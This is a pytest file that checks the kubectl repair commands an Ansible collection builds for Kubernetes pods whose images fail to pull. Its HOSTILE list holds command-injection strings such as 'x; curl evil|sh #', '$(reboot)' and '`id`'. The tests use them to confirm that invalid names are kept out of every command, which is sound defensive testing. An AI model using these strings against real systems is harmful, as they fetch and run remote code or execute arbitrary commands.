# Copyright (c) 2026, killinit.zot contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Commands for pods that fail in several places at once. tests/cluster runs what these tests only compare."""

from __future__ import annotations

import shlex
import typing as t

import pytest
import yaml

from ansible_collections.killinit.zot.plugins.module_utils._cluster.objects import ImageUse
from ansible_collections.killinit.zot.plugins.module_utils._cluster.pull_events import PullFailure
from ansible_collections.killinit.zot.plugins.module_utils._oci.reference import Reference
from ansible_collections.killinit.zot.plugins.module_utils._pull_failure_info.remedies import Commands

KUBECTL = "kubectl --namespace=openclaw"
USES = {
    "app": "container",
    "web": "container",
    "first": "init container",
    "data": "image volume",
    "more": "image volume",
}


IMAGE = Reference.parse("h.example/r:2")


def failure(owner: str, name: str, pod: str, kind: str = "container") -> PullFailure:
    owner_kind, _slash, owner_name = owner.partition("/")
    use = ImageUse(kind, name, "h.example/r:1", "Always", ("containers", 0))
    return PullFailure(pod, owner_kind, owner_name, "node", use, "failed", "", (), "default", None)


def commands(owner: str = "deployment/openclaw", *, pods: t.Sequence[str] = ("b", "a"), uses: str = "") -> Commands:
    chosen = uses.split() or list(USES)
    return Commands("openclaw", [failure(owner, name, pod, USES[name]) for name in chosen for pod in pods], {})


def patched(command: str) -> t.Any:
    """The specification of the pods in a patch, as kubectl reads it."""
    head, _word, patch = command.partition(" --patch ")
    assert head == f"{KUBECTL} patch deployment/openclaw"
    (text,) = shlex.split(patch)
    return yaml.safe_load(text)["spec"]["template"]["spec"]


def test_set_image() -> None:
    containers, volumes = commands().set_image(IMAGE)
    assert (
        containers == f"{KUBECTL} set image deployment/openclaw app=h.example/r:2 web=h.example/r:2 first=h.example/r:2"
    )
    assert patched(volumes) == {
        "volumes": [{"name": name, "image": {"reference": "h.example/r:2"}} for name in ("data", "more")],
    }


def test_always_pull() -> None:
    (command,) = commands().always_pull()
    always = {"imagePullPolicy": "Always"}
    assert patched(command) == {
        "containers": [{"name": "app", **always}, {"name": "web", **always}],
        "initContainers": [{"name": "first", **always}],
        "volumes": [{"name": name, "image": {"pullPolicy": "Always"}} for name in ("data", "more")],
    }


def test_only_on() -> None:
    (command,) = commands().only_on("arm64")
    assert patched(command) == {"nodeSelector": {"kubernetes.io/arch": "arm64"}}


def test_a_pod_of_its_own_can_get_another_image() -> None:
    expected = f"{KUBECTL} set image pod/alone first=h.example/r:2"
    assert commands("pod/alone", uses="first data").set_image(IMAGE) == [expected]


@pytest.mark.parametrize("kind", ["job", "replicaset", "widget"])
def test_what_cannot_be_changed_gets_no_command(kind: str) -> None:
    """A Job's template is fixed, and what other controllers own is not ours to change."""
    found = commands(f"{kind}/x")
    assert [*found.set_image(IMAGE), *found.always_pull(), *found.only_on("arm64"), *found.pull_with("a")] == []


@pytest.mark.parametrize(
    ("owner", "pods", "expected"),
    [
        ("deployment/openclaw", ("b", "a"), ["delete pod a b"]),
        ("deployment/openclaw", tuple("abcde"), ["delete pod a b c d e"]),
        ("deployment/openclaw", tuple("abcdef"), ["rollout restart deployment/openclaw"]),
        ("job/once", tuple("abcdef"), ["delete pod a b c d e f"]),
        ("pod/alone", ("alone",), []),
    ],
)
def test_recreate_pods(owner: str, pods: tuple[str, ...], expected: list[str]) -> None:
    assert commands(owner, pods=pods, uses="app").recreate_pods() == [f"{KUBECTL} {each}" for each in expected]


@pytest.mark.parametrize("name", ["123", "0x1f", "1e3", "on", "null", "y"])
def test_a_name_that_yaml_would_not_take_for_text(name: str) -> None:
    """Kubernetes allows these names; a patch with a number in place of a name is refused."""
    (command,) = commands(uses="app").pull_with(name)
    assert patched(command) == {"imagePullSecrets": [{"name": name}]}


HOSTILE = [
    "x; curl evil|sh #",
    "$(reboot)",
    "`id`",
    "--all",
    "-x",
    "a\nb",
    "a b",
    "\x1b[2J",
    "",
    "A",
    "a/b",
    "a'b",
    'a"b',
]


@pytest.mark.parametrize("hostile", HOSTILE)
class TestHostileNames:
    """A name that Kubernetes does not allow is in no command, and is reported."""

    def all_of(self, found: Commands) -> list[str]:
        return [
            *found.set_image(IMAGE),
            *found.always_pull(),
            *found.only_on("arm64"),
            *found.pull_with("zot-pull-secret"),
            *found.recreate_pods(),
            *found.recreate_pods(changed=True),
        ]

    def test_of_an_owner(self, hostile: str) -> None:
        """The pods can still be deleted."""
        for owner in (f"deployment/{hostile}", f"{hostile}/openclaw" if "/" not in hostile else "/openclaw"):
            found = Commands("openclaw", [failure(owner, "app", "pod-1")], {})
            assert found.invalid == (owner,)
            assert set(self.all_of(found)) == {f"{KUBECTL} delete pod pod-1"}

    def test_of_a_pod(self, hostile: str) -> None:
        found = Commands("openclaw", [failure("statefulset/db", "app", each) for each in ("db-0", hostile)], {})
        assert found.invalid == (hostile,)
        assert not [each for each in self.all_of(found) if "delete" in each]
        assert found.set_image(IMAGE) == [f"{KUBECTL} set image statefulset/db app=h.example/r:2"]

    @pytest.mark.parametrize("kind", ["container", "image volume"])
    def test_of_a_container(self, hostile: str, kind: str) -> None:
        found = Commands("openclaw", [failure("deployment/openclaw", hostile, "pod-1", kind)], {})
        assert found.invalid == (hostile,)
        assert found.set_image(IMAGE) == []
        assert found.always_pull() == []

    def test_of_a_secret_or_a_service_account(self, hostile: str) -> None:
        found = commands()
        assert found.pull_with(hostile) == []
        assert found.name_secret(hostile, "zot-pull-secret") == []
        assert found.name_secret("default", hostile) == []
        assert found.repair_secret("h.example", hostile, "h.example") == []

    def test_of_an_architecture(self, hostile: str) -> None:
        assert commands().only_on(hostile) == []
